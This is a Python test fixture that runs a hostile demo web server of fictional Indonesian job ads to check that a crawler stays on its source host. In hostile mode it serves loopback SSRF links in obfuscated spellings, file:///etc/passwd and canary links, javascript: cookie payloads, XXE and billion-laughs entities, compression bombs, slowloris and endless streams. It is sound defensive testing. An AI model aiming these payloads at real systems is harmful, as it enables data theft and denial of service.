"""A hostile corner of the demo internet, for tests: pages that try to steer, stall or flood a crawl.

Off unless the demo sites are started with ``--hostile`` (``DemoSitesProcess(hostile=True)``); the
pages then live under ``/hostile/`` and are switched with ``POST /__hostile__`` (``mode=benign`` or
``mode=hostile``, ``listener_port=N``: another port on this machine the attacks aim at,
``canary=PATH``: a local file they try to read). In *benign* mode every page is an ordinary,
fictional site of its kind; in *hostile* mode the same URLs serve

- listings, channel previews, feeds and sitemaps whose links, "next" links, ``<loc>``s and Atom
  ``rel=next`` point off the host: other loopback ports under every spelling (``localhost``,
  ``2130706433``, ``0x7f.1``, ``0177.0.0.1``, ``127.1``, ``[::ffff:127.0.0.1]``, ``[::1]``,
  protocol-relative ``//``), ``file:`` (the canary, ``/etc/passwd``, ``/dev/zero``), ``ftp:``,
  ``data:``, ``s3:``, ``javascript:``, ``mailto:``, ``tel:`` and malformed URLs;
- on-host redirects (301, 302, 303, 307, 308) and meta refreshes to those places;
- slowloris answers (headers or body a byte at a time), an endless stream, gzip, deflate and
  double-gzip bombs, pages in broken or lying encodings, JSON-LD nested 100,000 deep;
- a feed and a sitemap with a billion-laughs entity and with an XXE entity naming the canary;
- a listing of 20,000 links, and pagination that never ends;
- an ordinary listing with links to the canary file and to ``file:///dev/zero`` (``/hostile/files``);
- listings that leave out one ad the benign ones showed (so a crawl that trusted a hostile walk
  would mark it gone).

``GET /__hostile__`` reports the ``Host`` headers the server saw: a crawl that stayed on its source
only ever asked for ``127.0.0.1:<port>``. All ads are fictional (phones ``08xx-555x-xxxx``).
"""

from __future__ import annotations

import contextlib
import gzip
import json
import threading
import time
import zlib
from collections import Counter
from http.server import BaseHTTPRequestHandler
from urllib.parse import parse_qs, quote, urlsplit

from markupsafe import escape

MODES = ("benign", "hostile")
FLOOD_LINKS = 20_000
BOMB_BYTES = 128 * 1024 * 1024  # decompressed size of each bomb (25 times DOWNLOAD_MAXSIZE)
STALL_SECONDS = 120  # slowloris answers give up after this (the crawl must not wait that long)
STREAM_CHUNK = 64 * 1024

ADS = {
    1: (
        "Dicari Operator Produksi Pabrik Elektronik Batam",
        (
            "PT Sinar Cahaya Elektronik (fiktif) membuka lowongan operator produksi untuk pabrik di "
            "Batam. Pendidikan minimal SMK, gaji sesuai UMK Batam, kontrak satu tahun, mes disediakan. "
            "Kirim lamaran lewat WA HRD 0812-5550-1101."
        ),
    ),
    2: (
        "Lowongan Sopir Pribadi Jakarta Selatan",
        (
            "Keluarga di Jakarta Selatan mencari sopir pribadi berpengalaman, SIM A aktif, jujur dan "
            "tidak merokok. Gaji dibicarakan saat wawancara. Hubungi Bu Ratna 0813-5551-2202."
        ),
    ),
    3: (
        "Kerja ke Malaysia langsung berangkat tanpa paspor, semua biaya ditanggung",
        (
            "Dibutuhkan 20 orang kerja kebun sawit di Malaysia. Tidak perlu paspor dan tidak perlu "
            "pelatihan, berangkat minggu ini lewat jalur cepat, biaya potong gaji. WA 0857-5552-3303."
        ),
    ),
    4: (
        "Admin Gudang Surabaya, lulusan SMA",
        (
            "Toko bahan bangunan (fiktif) di Surabaya mencari admin gudang: mencatat stok, bisa Excel, "
            "jujur dan teliti. Gaji Rp 4.200.000. Lamaran ke 0821-5553-4404."
        ),
    ),
}
# What each hostile listing leaves out, though its benign version showed it.
LEFT_OUT = 4


class HostileSites:
    """Renders the hostile pages; thread-safe; mode and targets switchable while it runs."""

    def __init__(self) -> None:
        self.mode = "benign"
        self.listener_port = 9  # discard: a port nothing should ever connect to
        self.canary = "/nonexistent/patroli-canary"
        self.hosts_seen: Counter[str] = Counter()
        self._lock = threading.Lock()
        self._bomb_lock = (
            threading.Lock()
        )  # building a bomb takes a while: block only bomb requests
        self._bombs: dict[str, bytes] = {}
        # Built in the background at start (seconds of compression) so that no request waits long.
        threading.Thread(target=self.build_bombs, name="hostile-bombs", daemon=True).start()

    # --- plumbing ---------------------------------------------------------------------------

    @staticmethod
    def claims(path: str) -> bool:
        return path.startswith("/hostile/") or urlsplit(path).path == "/__hostile__"

    def note_host(self, host: str) -> None:
        with self._lock:
            self.hosts_seen[host] += 1

    @property
    def hostile(self) -> bool:
        return self.mode == "hostile"

    def serve(self, handler: BaseHTTPRequestHandler, method: str, body: bytes) -> None:
        parts = urlsplit(handler.path)
        params = {k: v[-1] for k, v in parse_qs(parts.query).items()}
        host = handler.headers.get("Host") or "127.0.0.1"
        if parts.path == "/__hostile__":
            self.control(handler, method, body)
            return
        route = parts.path.removeprefix("/hostile/")
        for prefix, view in (
            ("classifieds/item/", self.item),
            ("flood/item/", self.item),
            ("classifieds", self.classifieds),
            ("search", self.search),
            ("flood", self.flood),
            ("files", self.files),
            ("jobs/", self.job),
            ("jobs", self.jobs),
            ("tg/s/", self.telegram),
            ("feed/", self.feed),
            ("sitemap", self.sitemap),
            ("redirect/", self.redirect),
            ("refresh", self.refresh),
        ):
            if route.startswith(prefix):
                view(handler, route.removeprefix(prefix), params, host)
                return
        for name, stream in (
            ("slowloris", self.slowloris),
            ("slow-headers", self.slow_headers),
            ("stream", self.endless),
        ):
            if route == name:
                stream(handler)
                return
        if route.endswith("-bomb"):
            self.bomb(handler, route.removesuffix("-bomb"))
        elif route.startswith("encoding/"):
            self.bad_encoding(handler, route.removeprefix("encoding/"))
        elif route == "deep-json":
            self.deep_json(handler)
        else:
            send(handler, 404, b"<html><body>not here</body></html>")

    def control(self, handler: BaseHTTPRequestHandler, method: str, body: bytes) -> None:
        if method == "POST":
            form = {k: v[-1] for k, v in parse_qs(body.decode("utf-8", "replace")).items()}
            with self._lock:
                if form.get("mode") in MODES:
                    self.mode = form["mode"]
                if form.get("listener_port", "").isdigit():
                    self.listener_port = int(form["listener_port"])
                if form.get("canary"):
                    self.canary = form["canary"]
                if form.get("reset_hosts"):
                    self.hosts_seen.clear()
        with self._lock:
            state = {
                "mode": self.mode,
                "listener_port": self.listener_port,
                "canary": self.canary,
                "hosts_seen": dict(self.hosts_seen),
            }
        send(handler, 200, json.dumps(state).encode(), "application/json")

    # --- where the attacks point ----------------------------------------------------------------

    def off_host_links(self, host: str) -> list[str]:
        """Links off the source: other ports and spellings of this machine, other schemes, junk."""
        port = self.listener_port
        own_port = host.rsplit(":", 1)[-1]
        return [
            f"http://127.0.0.1:{port}/listing-link",
            f"http://localhost:{port}/",
            f"http://localhost:{own_port}/hostile/classifieds/item/1",
            f"http://[::ffff:127.0.0.1]:{port}/",
            f"http://[::1]:{port}/",
            f"http://2130706433:{port}/",
            f"http://0x7f.1:{port}/",
            f"http://0177.0.0.1:{port}/",
            f"http://127.1:{port}/",
            f"//127.0.0.1:{port}/protocol-relative",
            f"https://127.0.0.1:{port}/tls",
            f"http://127.0.0.1:{own_port}@127.0.0.1:{port}/userinfo",
            f"http://127.0.0.1:{own_port}\\@127.0.0.1:{port}/backslash",
            f"ftp://127.0.0.1:{port}/lowongan.txt",
            f"file://{self.canary}",
            "file:///etc/passwd",
            "file:///dev/zero",
            "data:text/html,<h1>Lowongan DATA-URI</h1><div class=body>data uri</div>",
            "s3://patroli-bucket/ads.html",
            "javascript:alert(document.cookie)",
            "  JavaScript:void(0)",
            "mailto:agen@example.test",
            "tel:+6281255509999",
            "http://[::1",
            f"http://127.0.0.1:{own_port}99/too-big-port",
            "http://exa mple.test/spaces",
            "http://",
        ]

    def redirect_targets(self) -> list[str]:
        port = self.listener_port
        return [
            f"http://127.0.0.1:{port}/redirected",
            f"//127.0.0.1:{port}/redirected-protocol-relative",
            f"http://localhost:{port}/redirected",
            f"http://[::1]:{port}/redirected",
            f"file://{self.canary}",
            f"ftp://127.0.0.1:{port}/redirected",
            "data:text/html,<h1>redirected DATA-URI</h1>",
        ]

    def attack_links(self, host: str) -> list[str]:
        """Everything a hostile page links to, off-host and on-host."""
        on_host = [
            f"/hostile/redirect/{code}?to={quote(target, safe='')}"
            for code in (301, 302, 303, 307, 308)
            for target in self.redirect_targets()
        ]
        on_host += [f"/hostile/refresh?to={quote(t, safe='')}" for t in self.redirect_targets()]
        on_host += [
            "/hostile/slowloris",
            "/hostile/slow-headers",
            "/hostile/stream",
            "/hostile/gzip-bomb",
            "/hostile/deflate-bomb",
            "/hostile/gzip-gzip-bomb",
            "/hostile/deep-json",
        ]
        on_host += [f"/hostile/encoding/{kind}" for kind in ENCODINGS]
        return self.off_host_links(host) + on_host

    # --- classifieds, site search, flood ------------------------------------------------------

    def cards(self, links: list[str]) -> str:
        return "\n".join(
            f'<li class="card"><a href="{escape(link)}">Lowongan {i}</a> <span>{escape(link[:40])}</span></li>'
            for i, link in enumerate(links)
        )

    def listing(self, cards: str, next_href: str = "") -> bytes:
        nxt = f'<a rel="next" href="{escape(next_href)}">Berikutnya</a>' if next_href else ""
        return page("Lowongan", f'<ul class="cards">\n{cards}\n</ul>{nxt}')

    def benign_links(self, prefix: str, ids: list[int]) -> list[str]:
        return [f"/hostile/{prefix}/item/{n}" for n in ids]

    def classifieds(
        self, handler: BaseHTTPRequestHandler, _: str, params: dict[str, str], host: str
    ) -> None:
        if not self.hostile:
            send(
                handler,
                200,
                self.listing(self.cards(self.benign_links("classifieds", [1, 2, 3, 4]))),
            )
            return
        if params.get("page") == "2":
            off = f"http://127.0.0.1:{self.listener_port}/hostile/classifieds?page=3"
            send(handler, 200, self.listing(self.cards(self.benign_links("classifieds", [3])), off))
            return
        # javascript: first: a spider that raises on it loses the whole page.
        links = [
            "javascript:void(0)",
            *self.attack_links(host),
            *self.benign_links("classifieds", [1, 2]),
        ]
        send(handler, 200, self.listing(self.cards(links), "/hostile/classifieds?page=2"))

    def search(
        self, handler: BaseHTTPRequestHandler, _: str, params: dict[str, str], host: str
    ) -> None:
        links = self.benign_links("classifieds", [1, 2, 3])
        if self.hostile:
            links = ["mailto:agen@example.test", *self.attack_links(host), *links[:2]]
        send(handler, 200, self.listing(self.cards(links)))

    def flood(
        self, handler: BaseHTTPRequestHandler, _: str, params: dict[str, str], host: str
    ) -> None:
        ids = list(range(1, FLOOD_LINKS + 1)) if self.hostile else [1, 2, 3]
        send(handler, 200, self.listing(self.cards(self.benign_links("flood", ids))))

    def files(
        self, handler: BaseHTTPRequestHandler, _: str, params: dict[str, str], host: str
    ) -> None:
        """Ordinary ads and links to local files: the canary, and ``/dev/zero`` (bytes without end)."""
        links = self.benign_links("classifieds", [1, 2, 3])
        if self.hostile:
            links = [f"file://{self.canary}", *links, "file:///dev/zero"]
        send(handler, 200, self.listing(self.cards(links)))

    def item(
        self, handler: BaseHTTPRequestHandler, rest: str, params: dict[str, str], host: str
    ) -> None:
        number = int(rest) if rest.isdigit() else 0
        title, text = ADS.get(number, (f"Lowongan nomor {number}", "Lowongan kerja (fiktif)."))
        send(
            handler,
            200,
            page(title, f'<h1>{escape(title)}</h1><div class="body">{escape(text)}</div>'),
        )

    # --- job board with JSON-LD: links, and pagination without end --------------------------------

    def jobs(
        self, handler: BaseHTTPRequestHandler, _: str, params: dict[str, str], host: str
    ) -> None:
        number = int(params["page"]) if params.get("page", "").isdigit() else 1
        if not self.hostile:
            links = "".join(
                f'<article><a href="/hostile/jobs/j{n}">{escape(ADS[n][0])}</a></article>'
                for n in (1, 2, 3)
            )
            send(handler, 200, page("Lowongan", links))
            return
        hrefs = [
            "javascript:void(0)",
            *self.attack_links(host),
            "/hostile/jobs/j1",
            "/hostile/jobs/j2",
        ]
        links = (
            "".join(f'<article><a href="{escape(h)}">Lowongan</a></article>' for h in hrefs)
            if number == 1
            else ""
        )
        links += f'<article><a href="/hostile/jobs/j{number + 100}">Lowongan halaman {number}</a></article>'
        # Pagination that never ends.
        send(
            handler,
            200,
            page(
                "Lowongan",
                links + f'<a rel="next" href="/hostile/jobs?page={number + 1}">Berikutnya</a>',
            ),
        )

    def job(
        self, handler: BaseHTTPRequestHandler, rest: str, params: dict[str, str], host: str
    ) -> None:
        number = int(rest.removeprefix("j")) if rest.removeprefix("j").isdigit() else 0
        title, text = ADS.get(number, (f"Lowongan nomor {number}", "Lowongan kerja (fiktif)."))
        posting = {
            "@context": "https://schema.org",
            "@type": "JobPosting",
            "title": title,
            "description": text,
            "identifier": f"j{number}",
            "datePosted": "2026-11-20",
            "hiringOrganization": {"@type": "Organization", "name": "PT Contoh (fiktif)"},
            "url": "javascript:alert(1)" if self.hostile else f"/hostile/jobs/j{number}",
        }
        script = json.dumps(posting).replace("</", "<\\/")
        send(
            handler,
            200,
            page(
                title,
                f'<script type="application/ld+json">{script}</script><h1>{escape(title)}</h1>',
            ),
        )

    # --- Telegram previews: "more" links off the host ----------------------------------------

    def telegram(
        self, handler: BaseHTTPRequestHandler, rest: str, params: dict[str, str], host: str
    ) -> None:
        channel = rest.split("/", 1)[0]
        more = {
            "hostile_loker": f"http://127.0.0.1:{self.listener_port}/tg/s/hostile_loker?before=1",
            "hostile_js": "javascript:loadMore()",
            "hostile_pr": f"//127.0.0.1:{self.listener_port}/tg/s/hostile_pr?before=1",
            "hostile_redir": "/hostile/redirect/302?to="
            + quote(f"http://localhost:{self.listener_port}/tg/s/x?before=1", safe=""),
        }.get(channel, "")
        # New posts in hostile mode: a crawl pages back past posts it does not know yet.
        posts = "".join(telegram_post(channel, n, 10 if self.hostile else 0) for n in (1, 2, 3))
        more_html = (
            f'<div class="tgme_widget_message_centered"><a href="{escape(more)}" class="tme_messages_more" data-before="1"></a></div>'
            if self.hostile and more and not params.get("before")
            else ""
        )
        send(
            handler,
            200,
            page(channel, f'<section class="tgme_channel_history">{more_html}{posts}</section>'),
        )

    # --- feeds and sitemaps: entities, and next links off the host ------------------------------

    def feed(
        self, handler: BaseHTTPRequestHandler, rest: str, params: dict[str, str], host: str
    ) -> None:
        base = f"http://{host}"
        items = "".join(
            f"<item><title>{escape(ADS[n][0])}</title><link>{base}/hostile/classifieds/item/{n}</link>"
            f"<guid>{base}/hostile/feed/{escape(rest)}/{n}</guid><description>{escape(ADS[n][1])}</description>"
            "<pubDate>Fri, 20 Nov 2026 08:00:00 +0000</pubDate></item>"
            for n in (1, 2, 3)
        )
        doctype, extra, channel_links = "", "", ""
        if self.hostile:
            if rest == "xxe":
                doctype = (
                    f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{self.canary}">'
                    f'<!ENTITY % remote SYSTEM "http://127.0.0.1:{self.listener_port}/evil.dtd"> %remote;]>'
                )
                extra = "<item><title>XXE</title><guid>xxe-1</guid><description>&xxe;</description></item>"
            elif rest == "laughs":
                doctype = BILLION_LAUGHS_DOCTYPE.format(root="rss")
                # Under expat's amplification limit (a feed of many such entries costs hundreds of
                # MiB); the sitemap carries the full bomb (&lol9;).
                extra = "".join(
                    f"<item><title>Laughs</title><guid>lol-{n}</guid><description>&lol4;</description></item>"
                    for n in range(3)
                )
            extra += "<item><title>Tautan skrip</title><link>javascript:alert(1)</link><guid>js-1</guid><description>Lowongan dengan tautan skrip.</description></item>"
            channel_links = (
                f'<atom:link rel="next" href="http://127.0.0.1:{self.listener_port}/feed/{rest}"/>'
                if rest != "atom-redirect"
                else f'<atom:link rel="next" href="/hostile/redirect/307?to={quote("file://" + self.canary, safe="")}"/>'
            )
        body = (
            f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
            '<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel>'
            f"<title>Info loker (fiktif)</title><link>{base}/hostile/feed</link>"
            f"<description>Feed uji</description>{channel_links}{items}{extra}</channel></rss>"
        )
        send(handler, 200, body.encode(), "application/rss+xml; charset=utf-8")

    def sitemap(
        self, handler: BaseHTTPRequestHandler, rest: str, params: dict[str, str], host: str
    ) -> None:
        base = f"http://{host}"
        benign = [f"{base}/hostile/classifieds/item/{n}" for n in (1, 2, 3)]
        if rest == "_index.xml":
            maps = [f"{base}/hostile/sitemap.xml"]
            if self.hostile:
                maps += [
                    f"http://127.0.0.1:{self.listener_port}/sitemap.xml",
                    f"file://{self.canary}",
                    f"{base}/hostile/sitemap-xxe.xml",
                    f"{base}/hostile/sitemap-laughs.xml",
                    f"{base}/hostile/redirect/301?to={quote(f'http://[::1]:{self.listener_port}/s.xml', safe='')}",
                    "javascript:void(0)",
                ]
            body = (
                '<?xml version="1.0" encoding="UTF-8"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                + "".join(f"<sitemap><loc>{escape(m)}</loc></sitemap>" for m in maps)
                + "</sitemapindex>"
            )
        else:
            doctype, locs = "", benign
            if self.hostile:
                absolute = [
                    base + a if a.startswith("/hostile/") else a for a in self.attack_links(host)
                ]
                locs = ["javascript:void(0)", *absolute, *benign[:2]]
                if rest == "-xxe.xml":
                    doctype = f'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file://{self.canary}">]>'
                    locs = ["&xxe;", *benign[:2]]
                elif rest == "-laughs.xml":
                    doctype = BILLION_LAUGHS_DOCTYPE.format(root="urlset")
                    locs = ["&lol9;", *benign[:2]]
            entries = "".join(
                f"<url><loc>{loc if loc.startswith('&') else escape(loc)}</loc><lastmod>2026-11-20</lastmod></url>"
                for loc in locs
            )
            body = (
                f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
                f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</urlset>'
            )
        send(handler, 200, body.encode(), "application/xml; charset=utf-8")

    # --- redirects and meta refreshes -----------------------------------------------------------

    def redirect(
        self, handler: BaseHTTPRequestHandler, rest: str, params: dict[str, str], host: str
    ) -> None:
        code = int(rest) if rest in ("301", "302", "303", "307", "308") else 302
        target = params.get("to", "/")
        send(handler, code, b"", headers={"Location": target})

    def refresh(
        self, handler: BaseHTTPRequestHandler, _: str, params: dict[str, str], host: str
    ) -> None:
        target = params.get("to", "/")
        head = f'<meta http-equiv="refresh" content="0; url={escape(target)}">'
        send(
            handler,
            200,
            page("Pindah", '<h1>Halaman pindah</h1><div class="body">Tunggu…</div>', head),
        )

    # --- answers that stall, never end, or explode ---------------------------------------------

    def slowloris(self, handler: BaseHTTPRequestHandler) -> None:
        """Headers at once, then the body a byte at a time."""
        handler.close_connection = True
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html; charset=utf-8")
        handler.send_header("Content-Length", "1000000")
        handler.end_headers()
        dribble(handler, b"<", STALL_SECONDS)

    def slow_headers(self, handler: BaseHTTPRequestHandler) -> None:
        """The status line, then a header line every half second, never the end of the headers."""
        handler.close_connection = True
        with _client_gone():
            handler.wfile.write(b"HTTP/1.1 200 OK\r\n")
            handler.wfile.flush()
        dribble(handler, b"X-Patroli-Wait: 1\r\n", STALL_SECONDS)

    def endless(self, handler: BaseHTTPRequestHandler) -> None:
        handler.close_connection = True
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html; charset=utf-8")
        handler.send_header("Transfer-Encoding", "chunked")
        handler.end_headers()
        chunk = b"<p>" + b"lowongan " * (STREAM_CHUNK // 9) + b"</p>"
        framed = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"
        deadline = time.monotonic() + STALL_SECONDS
        with _client_gone():
            while time.monotonic() < deadline:
                handler.wfile.write(framed)
                time.sleep(
                    0.002
                )  # ~30 MB/s: endless for a crawl, and no GIL hog for the other pages

    def bomb(self, handler: BaseHTTPRequestHandler, kind: str) -> None:
        encodings = {"gzip": "gzip", "deflate": "deflate", "gzip-gzip": "gzip, gzip"}
        if kind not in encodings:
            send(handler, 404, b"no such bomb")
            return
        send(
            handler,
            200,
            self.bomb_body(kind),
            "text/html; charset=utf-8",
            {"Content-Encoding": encodings[kind]},
        )

    def build_bombs(self) -> None:
        for kind in ("gzip", "deflate", "gzip-gzip"):
            self.bomb_body(kind)

    def bomb_body(self, kind: str) -> bytes:
        with self._bomb_lock:
            if kind not in self._bombs:
                if kind == "gzip-gzip":
                    body = gzip.compress(self._bombs.get("gzip") or self._pack(31))
                else:
                    body = self._pack(31 if kind == "gzip" else 15)
                self._bombs[kind] = body
            return self._bombs[kind]

    @staticmethod
    def _pack(wbits: int) -> bytes:
        zeros = bytes(1024 * 1024)
        packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
        parts = [packer.compress(zeros) for _ in range(BOMB_BYTES // len(zeros))]
        return b"".join(parts) + packer.flush()

    def bad_encoding(self, handler: BaseHTTPRequestHandler, kind: str) -> None:
        if kind not in ENCODINGS:
            send(handler, 404, b"no such encoding")
            return
        content_type, body = ENCODINGS[kind]
        send(handler, 200, body, content_type)

    def deep_json(self, handler: BaseHTTPRequestHandler) -> None:
        depth = 100_000
        script = "[" * depth + "]" * depth
        nested = '{"@type": "JobPosting", "title": ' * 2000 + '"x"' + "}" * 2000
        body = page(
            "Lowongan",
            f'<script type="application/ld+json">{script}</script>'
            f'<script type="application/ld+json">{nested}</script><h1>Lowongan</h1><div class="body">x</div>',
        )
        send(handler, 200, body)


BILLION_LAUGHS_DOCTYPE = (
    '<!DOCTYPE {root} [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
_AD_PAGE = ADS[2]
ENCODINGS: dict[str, tuple[str, bytes]] = {
    # UTF-8 bytes sent as UTF-16
    "utf16-label": (
        "text/html; charset=utf-16",
        f"<html><body><h1>{_AD_PAGE[0]}</h1><div class='body'>{_AD_PAGE[1]}</div></body></html>".encode(),
    ),
    # bytes that are no UTF-8 at all, declared UTF-8
    "invalid-utf8": (
        "text/html; charset=utf-8",
        (
            b"<html><body><h1>Lowongan \xff\xfe\xc3\x28 \xed\xa0\x80 \xf8\x88\x80\x80\x80</h1>"
            b"<div class='body'>Gaji \x80\x81\x82 besar \xc0\xaf</div></body></html>"
        ),
    ),
    # a charset no codec knows
    "unknown-charset": (
        "text/html; charset=x-klingon-9",
        b"<html><body><h1>Lowongan kerja</h1><div class='body'>Isi \xe2\x82\xac</div></body></html>",
    ),
    # NUL bytes and control characters in the text
    "nul-bytes": (
        "text/html; charset=utf-8",
        b"<html><body><h1>Lowongan\x00kerja\x01\x02</h1><div class='body'>a\x00b\x1b[31m</div></body></html>",
    ),
    # a UTF-16 byte-order mark on a page declared windows-1252
    "bom-mismatch": (
        "text/html; charset=windows-1252",
        b"\xff\xfe"
        + "<html><body><h1>Lowongan</h1><div class='body'>isi</div></body></html>".encode(
            "utf-16-le"
        ),
    ),
}


def page(title: str, body: str, head: str = "") -> bytes:
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{escape(title)}</title>{head}</head>'
        f"<body>{body}</body></html>"
    ).encode()


def telegram_post(channel: str, number: int, offset: int = 0) -> str:
    """A post; a hostile one (``offset``) also shows a malformed link and a file link in its text."""
    title, text = ADS[number]
    links = (
        ' <a href="http://[::1">rusak</a> <a href="file:///etc/passwd">berkas</a>' if offset else ""
    )
    return (
        f'<div class="tgme_widget_message_wrap"><div class="tgme_widget_message" data-post="{channel}/{number + offset}">'
        f'<div class="tgme_widget_message_bubble"><div class="tgme_widget_message_text">{escape(title)}<br/>{escape(text)}'
        f"{links}</div>"
        f'<a class="tgme_widget_message_date"><time datetime="2026-11-2{number}T08:00:00+00:00"></time></a>'
        "</div></div></div>"
    )


def send(
    handler: BaseHTTPRequestHandler,
    status: int,
    body: bytes,
    content_type: str = "text/html; charset=utf-8",
    headers: dict[str, str] | None = None,
) -> None:
    with _client_gone():
        handler.send_response(status)
        handler.send_header("Content-Type", content_type)
        handler.send_header("Content-Length", str(len(body)))
        for key, value in (headers or {}).items():
            handler.send_header(key, value)
        handler.end_headers()
        handler.wfile.write(body)


def dribble(handler: BaseHTTPRequestHandler, piece: bytes, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    with _client_gone():
        while time.monotonic() < deadline:
            handler.wfile.write(piece)
            handler.wfile.flush()
            time.sleep(0.5)


def _client_gone() -> contextlib.suppress:
    """The crawler hung up (it should, on these pages): stop writing, quietly."""
    return contextlib.suppress(BrokenPipeError, ConnectionResetError, TimeoutError)
